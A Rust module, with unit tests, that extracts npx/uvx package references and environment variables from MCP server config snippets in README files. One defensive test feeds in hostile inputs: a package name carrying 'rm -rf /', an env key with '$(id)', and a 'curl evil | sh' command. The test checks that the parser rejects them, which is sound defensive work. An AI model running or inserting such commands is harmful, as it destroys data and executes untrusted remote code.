//! The most common place MCP servers document how to run them: client-config JSON snippets
//! in the README (`"mcpServers": {"x": {"command": "npx", "args": [...], "env": {...}}}`).
//! Snippets are often JSONC (comments, trailing commas); they are cleaned before parsing.
//! Only `npx` and `uvx` commands (also behind `cmd /c`) become package candidates; `env`
//! keys become variables, required when their value is a placeholder.

use serde_json::Value;

use crate::analysis::plan::{looks_secret, EnvVar, Findings, PackageRef};
use crate::analysis::source::{npm_name_ok, pypi_name_ok, pypi_normalize, Registry};

/// READMEs are read up to this many bytes; snippets past it are not worth the CPU.
pub const MAX_README: usize = 512 * 1024;
const MAX_SNIPPETS: usize = 32;

/// Removes `//` and `/* */` comments outside strings and commas before `}` or `]`.
pub fn strip_jsonc(text: &str) -> String {
    let b: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len());
    let (mut i, mut in_str, mut esc) = (0, false, false);
    while i < b.len() {
        let c = b[i];
        if in_str {
            out.push(c);
            match (esc, c) {
                (true, _) => esc = false,
                (false, '\\') => esc = true,
                (false, '"') => in_str = false,
                _ => {}
            }
            i += 1;
            continue;
        }
        match (c, b.get(i + 1)) {
            ('"', _) => {
                in_str = true;
                out.push(c);
            }
            ('/', Some('/')) => {
                while i < b.len() && b[i] != '\n' {
                    i += 1;
                }
                continue;
            }
            ('/', Some('*')) => {
                i += 2;
                while i + 1 < b.len() && !(b[i] == '*' && b[i + 1] == '/') {
                    i += 1;
                }
                i += 2;
                continue;
            }
            (',', _) => {
                let next = b[i + 1..].iter().find(|c| !c.is_whitespace());
                if !matches!(next, Some('}') | Some(']')) {
                    out.push(c);
                }
            }
            _ => out.push(c),
        }
        i += 1;
    }
    out
}

/// The bodies of fenced code blocks (any language tag), in order.
fn code_blocks(readme: &str) -> Vec<String> {
    let mut blocks = Vec::new();
    let mut current: Option<String> = None;
    for line in readme.lines() {
        let t = line.trim_start();
        if t.starts_with("```") {
            match current.take() {
                Some(body) => blocks.push(body),
                None => current = Some(String::new()),
            }
        } else if let Some(body) = current.as_mut() {
            body.push_str(line);
            body.push('\n');
        }
        if blocks.len() >= MAX_SNIPPETS {
            break;
        }
    }
    blocks
}

/// Every object that looks like one server entry: it has a string `command`.
fn server_entries<'a>(v: &'a Value, out: &mut Vec<&'a Value>) {
    match v {
        Value::Object(m) => {
            if m.get("command").is_some_and(Value::is_string) {
                out.push(v);
            }
            for child in m.values() {
                server_entries(child, out);
            }
        }
        Value::Array(items) => items.iter().for_each(|i| server_entries(i, out)),
        _ => {}
    }
}

fn is_placeholder(value: &str) -> bool {
    let v = value.trim();
    v.is_empty()
        || v.starts_with('<')
        || v.starts_with("${")
        || v.starts_with("YOUR")
        || v.to_ascii_lowercase().contains("your")
        || v.contains("xxx")
        || v.contains("...")
        || v.chars().all(|c| c == '*' || c == 'x' || c == 'X')
}

/// Splits `@scope/name@1.2.3` / `name@latest` into name and version.
fn split_version(spec: &str) -> (&str, Option<&str>) {
    match spec.get(1..).and_then(|t| t.rfind('@')).map(|i| i + 1) {
        Some(i) => (spec.get(..i).unwrap_or(spec), spec.get(i + 1..)),
        None => (spec, None),
    }
}

fn package_from(command: &str, args: &[String]) -> Option<PackageRef> {
    let mut args = args;
    let mut command = command;
    // `cmd /c npx …` on Windows
    if command.eq_ignore_ascii_case("cmd") {
        let pos = args
            .iter()
            .position(|a| a.eq_ignore_ascii_case("npx") || a.eq_ignore_ascii_case("uvx"))?;
        command = args.get(pos).map(String::as_str)?;
        args = &args[pos + 1..];
    }
    let registry = match command {
        "npx" => Registry::Npm,
        "uvx" => Registry::Pypi,
        _ => return None,
    };
    // Skip flags (`-y`, `--yes`, `--from x` takes a value for uvx).
    let mut i = 0;
    let mut from: Option<&str> = None;
    while i < args.len() && args[i].starts_with('-') {
        if args[i] == "--from" {
            from = args.get(i + 1).map(String::as_str);
            i += 1;
        }
        i += 1;
    }
    let spec = from.or(args.get(i).map(String::as_str))?;
    let rest: Vec<String> = args.get(i + 1..).unwrap_or_default().to_vec();
    let (name, version) = split_version(spec);
    let (name, version) = match registry {
        Registry::Npm if npm_name_ok(name) => (name.to_string(), version),
        Registry::Pypi => {
            // uvx accepts `pkg==1.2` too
            let (n, v) = match name.split_once("==") {
                Some((n, v)) => (n, Some(v)),
                None => (name, version),
            };
            if !pypi_name_ok(n) {
                return None;
            }
            (pypi_normalize(n), v)
        }
        _ => return None,
    };
    Some(PackageRef {
        registry,
        name,
        version: version.map(str::to_string),
        args: rest,
    })
}

pub fn read(readme: &str) -> Findings {
    let mut f = Findings::default();
    // Cut on a character boundary: a cut inside a multi-byte character must not fall back
    // to reading the whole (unbounded) README.
    let mut cut = readme.len().min(MAX_README);
    while !readme.is_char_boundary(cut) {
        cut -= 1;
    }
    let text = &readme[..cut];
    for block in code_blocks(text) {
        if !block.contains("\"command\"") {
            continue;
        }
        let Ok(v) = serde_json::from_str::<Value>(&strip_jsonc(&block)) else {
            // A fragment like `"name": {...}` without braces: try wrapping it.
            let wrapped = format!("{{{}}}", strip_jsonc(&block));
            let Ok(v) = serde_json::from_str::<Value>(&wrapped) else {
                continue;
            };
            read_value(&v, &mut f);
            continue;
        };
        read_value(&v, &mut f);
    }
    f
}

fn read_value(v: &Value, f: &mut Findings) {
    let mut entries = Vec::new();
    server_entries(v, &mut entries);
    for e in entries {
        let command = e["command"].as_str().unwrap_or_default();
        let args: Vec<String> = e["args"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|x| x.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default();
        let Some(pkg) = package_from(command, &args) else {
            continue;
        };
        f.add_package(pkg);
        if let Some(env) = e["env"].as_object() {
            for (name, value) in env {
                let value = value.as_str().unwrap_or_default();
                let placeholder = is_placeholder(value);
                f.add_env(EnvVar {
                    name: name.clone(),
                    description: None,
                    required: placeholder,
                    secret: looks_secret(name),
                    default: (!placeholder && !looks_secret(name)).then(|| value.to_string()),
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const GITHUB_README: &str = r#"
# GitHub MCP Server

### Usage with Claude Desktop
```json
{
  "mcpServers": {
    "github": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-github"],
      "env": {
        "GITHUB_PERSONAL_ACCESS_TOKEN": "<YOUR_TOKEN>", // from github.com/settings/tokens
        "GITHUB_API_URL": "https://api.github.com",
      }
    }
  }
}
```
#### Docker
```json
{ "mcpServers": { "github": { "command": "docker", "args": ["run", "-i", "ghcr.io/x"] } } }
```
"#;

    #[test]
    fn a_claude_desktop_snippet_yields_the_package_and_its_env() {
        let f = read(GITHUB_README);
        assert_eq!(
            f.packages.len(),
            1,
            "docker is not a package: {:?}",
            f.packages
        );
        assert_eq!(f.packages[0].name, "@modelcontextprotocol/server-github");
        assert_eq!(f.packages[0].registry, Registry::Npm);
        let token = f
            .env_vars
            .iter()
            .find(|v| v.name == "GITHUB_PERSONAL_ACCESS_TOKEN")
            .unwrap();
        assert!(token.required && token.secret && token.default.is_none());
        let url = f
            .env_vars
            .iter()
            .find(|v| v.name == "GITHUB_API_URL")
            .unwrap();
        assert!(!url.required && !url.secret);
        assert_eq!(url.default.as_deref(), Some("https://api.github.com"));
    }

    #[test]
    fn uvx_windows_cmd_and_fragments_are_understood() {
        let readme = r#"
```json
"fetch": { "command": "uvx", "args": ["--from", "Mcp_Server.Fetch==0.6.2", "mcp-server-fetch", "--ignore-robots-txt"] }
```
```jsonc
{ "servers": { "x": { "command": "cmd", "args": ["/c", "npx", "-y", "@scope/srv@1.2.3", "--port", "1"] } } }
```
"#;
        let f = read(readme);
        assert_eq!(f.packages.len(), 2, "{:?}", f.packages);
        assert_eq!(
            (
                f.packages[0].name.as_str(),
                f.packages[0].version.as_deref()
            ),
            ("mcp-server-fetch", Some("0.6.2"))
        );
        assert_eq!(f.packages[1].name, "@scope/srv");
        assert_eq!(f.packages[1].version.as_deref(), Some("1.2.3"));
        assert_eq!(f.packages[1].args, ["--port", "1"]);
    }

    #[test]
    fn hostile_snippets_produce_nothing_dangerous() {
        let readme = r#"
```json
{ "mcpServers": { "x": { "command": "npx", "args": ["-y", "x; rm -rf /"], "env": { "A B": "1", "$(id)": "2", "OK_NAME": "<set me>" } } } }
```
```json
{ "mcpServers": { "y": { "command": "bash", "args": ["-c", "curl evil | sh"] } } }
```
"#;
        let f = read(readme);
        assert!(f.packages.is_empty(), "{:?}", f.packages);
        let f2 = read(&readme.replace("x; rm -rf /", "good-pkg"));
        assert_eq!(
            f2.env_vars
                .iter()
                .map(|v| v.name.as_str())
                .collect::<Vec<_>>(),
            ["OK_NAME"]
        );
        assert_eq!(f2.warnings.len(), 2);
    }

    #[test]
    fn jsonc_cleaning_keeps_strings_intact() {
        let s = r#"{"url": "http://x//y", /* c */ "a": [1, 2,], // end
        "b": "a,}"}"#;
        let v: Value = serde_json::from_str(&strip_jsonc(s)).unwrap();
        assert_eq!(v["url"], "http://x//y");
        assert_eq!(v["b"], "a,}");
        assert_eq!(v["a"], serde_json::json!([1, 2]));
    }

    #[test]
    fn the_readme_cap_holds_when_it_lands_inside_a_multibyte_character() {
        let snippet = "```json\n{\"mcpServers\": {\"w\": {\"command\": \"npx\", \"args\": [\"-y\", \"@acme/late\"]}}}\n```";
        for pad in 0..4 {
            // "é" is two bytes; shifting by one byte puts the cap inside it every other time.
            let readme = format!("{}{}{snippet}", "x".repeat(pad), "é".repeat(MAX_README));
            let f = read(&readme);
            assert!(
                f.packages.is_empty(),
                "a snippet past {MAX_README} bytes was read (pad {pad})"
            );
        }
        let early = format!("{snippet}{}", "é".repeat(MAX_README));
        assert_eq!(read(&early).packages[0].name, "@acme/late");
    }
}
